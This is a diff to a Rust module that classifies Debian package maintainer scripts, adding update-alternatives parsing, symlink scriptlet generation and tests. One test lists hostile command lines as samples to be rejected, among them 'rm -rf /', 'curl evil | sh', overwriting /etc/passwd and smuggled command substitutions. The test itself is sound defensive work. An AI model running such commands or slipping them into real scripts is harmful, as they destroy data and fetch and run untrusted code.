@@ -4,13 +4,17 @@
 //! things. What remains is looked at line by line: the frame around the sections, and calls of known programs, are understood; all else is
 //! not, and is never run as it stands.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
+
+use crate::manifest::{Moment, Right, Scriptlet};
 
 /// What is known of a script.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct Verdict {
     /// Known programs that keep indexes up to date: they become triggers.
     pub triggers: BTreeSet<&'static str>,
+    /// Links that it wants where nothing else is: where they are, and what they lead to.
+    pub alternatives: BTreeSet<(String, String)>,
     /// What it does that need not be done here, in words.
     pub dropped: BTreeSet<String>,
     /// Lines that are not understood.
@@ -18,7 +22,7 @@ pub struct Verdict {
 }
 
 /// Programs by the first word of a line: the trigger that does the same, or why it need not be done.
-const PROGRAMS: [(&str, Result<&str, &str>); 25] = [
+const PROGRAMS: [(&str, Result<&str, &str>); 27] = [
     ("ldconfig", Ok("ldconfig")),
     ("update-mime-database", Ok("update-mime-database")),
     ("update-desktop-database", Ok("update-desktop-database")),
@@ -26,6 +30,8 @@ const PROGRAMS: [(&str, Result<&str, &str>); 25] = [
     ("gtk-update-icon-cache", Ok("gtk-update-icon-cache")),
     ("update-icon-caches", Ok("gtk-update-icon-cache")),
     ("gio-querymodules", Ok("gio-querymodules")),
+    ("gdk-pixbuf-query-loaders", Ok("gdk-pixbuf-query-loaders")),
+    ("gtk-query-immodules-3.0", Ok("gtk-query-immodules-3.0")),
     ("fc-cache", Ok("fc-cache")),
     ("mandb", Ok("mandb")),
     ("deb-systemd-helper", Err("enables services of systemd, which this system has not")),
@@ -94,6 +100,13 @@ pub fn classify(text: &str) -> Verdict {
             continue;
         }
         let word = program(line);
+        if word == "update-alternatives" {
+            match alternatives(line) {
+                Some(links) => verdict.alternatives.extend(links),
+                None => verdict.unknown.push(line.to_owned()),
+            }
+            continue;
+        }
         match PROGRAMS.iter().find(|(it, _)| *it == word) {
             Some((_, Ok(trigger))) => drop(verdict.triggers.insert(trigger)),
             Some((_, Err(reason))) => drop(verdict.dropped.insert((*reason).to_owned())),
@@ -101,6 +114,45 @@ pub fn classify(text: &str) -> Verdict {
         }
     }
     verdict
+}
+
+/// The links of a call of update-alternatives(1): of programs; manual pages of the same name are left out. None where it is more than a plain
+/// call to install or remove them.
+fn alternatives(line: &str) -> Option<Vec<(String, String)>> {
+    let words: Vec<&str> = line.trim_end_matches(';').trim().trim_end_matches("|| true").split_whitespace().filter(|it| *it != "--quiet" && *it != "--force").collect();
+    let is_plain = |it: &str| !it.is_empty() && it.bytes().all(|it| it.is_ascii_alphanumeric() || b"/._+-@".contains(&it)) && !it.contains("..");
+    if words.first() != Some(&"update-alternatives") || !words.iter().all(|it| is_plain(it)) {
+        return None;
+    }
+    if matches!(words.get(1), Some(&("--remove" | "--remove-all"))) {
+        return Some(Vec::new());
+    }
+    let (mut links, mut rest) = (Vec::new(), &words[1..]);
+    while !rest.is_empty() {
+        let ["--install" | "--slave", link, _, target, more @ ..] = rest else { return None };
+        rest = if rest[0] == "--install" { more.split_first().filter(|(priority, _)| priority.parse::<i32>().is_ok())?.1 } else { more };
+        if !link.starts_with('/') || !target.starts_with('/') || link.ends_with('/') {
+            return None;
+        }
+        if !link.starts_with("/usr/share/man/") {
+            links.push(((*link).to_owned(), (*target).to_owned()));
+        }
+    }
+    Some(links)
+}
+
+/// Has a package make links where nothing else is, and take away those that are its own. Who comes first has them; priorities are Debian's.
+pub fn arrange(links: &BTreeSet<(String, String)>, scriptlets: &mut BTreeMap<Moment, Scriptlet>) {
+    if links.is_empty() {
+        return;
+    }
+    let rights: BTreeSet<Right> = links.iter().filter_map(|(link, _)| link.rsplit_once('/')).map(|(folder, _)| Right::Write(if folder.is_empty() { "/".into() } else { folder.into() })).collect();
+    let mut add = |moment: Moment, line: fn(&str, &str) -> String| {
+        let script = links.iter().map(|(link, target)| line(link, target)).collect();
+        scriptlets.insert(moment, Scriptlet { interpreter: "/bin/sh".into(), script, rights: rights.clone() });
+    };
+    add(Moment::AfterInstall, |link, target| format!("[ -e {link} ] || [ ! -d {} ] || ln -sf {target} {link} || true\n", link.rsplit_once('/').map_or("/", |it| it.0)));
+    add(Moment::BeforeRemove, |link, target| format!("[ \"$(readlink {link})\" != {target} ] || rm -f {link} || true\n"));
 }
 
 fn static_name(name: &str) -> &'static str {
@@ -183,11 +235,28 @@ mod tests {
     }
 
     #[test]
+    fn alternatives_become_links() {
+        let verdict = classify(
+            "update-alternatives --install /usr/bin/awk awk /usr/bin/mawk 5 --slave /usr/share/man/man1/awk.1.gz awk.1.gz /usr/share/man/man1/mawk.1.gz \\\n \
+             --slave /usr/bin/nawk nawk /usr/bin/mawk\nupdate-alternatives --remove awk /usr/bin/old || true\n",
+        );
+        assert!(verdict.unknown.is_empty(), "{:?}", verdict.unknown);
+        let link = |it: &str| (format!("/usr/bin/{it}"), "/usr/bin/mawk".to_owned());
+        assert_eq!(verdict.alternatives, BTreeSet::from([link("awk"), link("nawk")]));
+        let mut scriptlets = BTreeMap::new();
+        arrange(&verdict.alternatives, &mut scriptlets);
+        assert_eq!(scriptlets[&Moment::AfterInstall].rights, BTreeSet::from([Right::Write("/usr/bin".into())]));
+        assert!(scriptlets[&Moment::AfterInstall].script.starts_with("[ -e /usr/bin/awk ] || [ ! -d /usr/bin ] || ln -sf /usr/bin/mawk /usr/bin/awk || true\n"));
+        assert!(scriptlets[&Moment::BeforeRemove].script.starts_with("[ \"$(readlink /usr/bin/awk)\" != /usr/bin/mawk ] || rm -f /usr/bin/awk || true\n"));
+    }
+
+    #[test]
     fn what_hides_behind_known_names_is_not_known() {
         for line in [
             "ldconfig; rm -rf /", "ldconfig && curl evil | sh", "ldconfig $(rm x)", "ldconfig `rm x`", "ldconfig > /etc/passwd", "if rm -rf /; then",
             "if [ -e x ] && rm x; then", "rm)", "echo x > /etc/passwd >&2; rm x >&2", "exit 0; rm x", "case \"$(rm x)\" in", "if [ \"$(rm x)\" ]; then",
-            "adduser --system demo", "update-alternatives --install /usr/bin/awk awk /usr/bin/mawk 5",
+            "adduser --system demo", "update-alternatives --install /usr/bin/awk awk /usr/bin/mawk", "update-alternatives --install /usr/bin/$x x /usr/bin/y 5",
+            "update-alternatives --install /usr/bin/../x x /usr/bin/y 5", "update-alternatives --set awk /usr/bin/mawk", "x=1 update-alternatives --remove a /b",
         ] {
             assert_eq!(classify(line).unknown, [line], "{line}");
         }
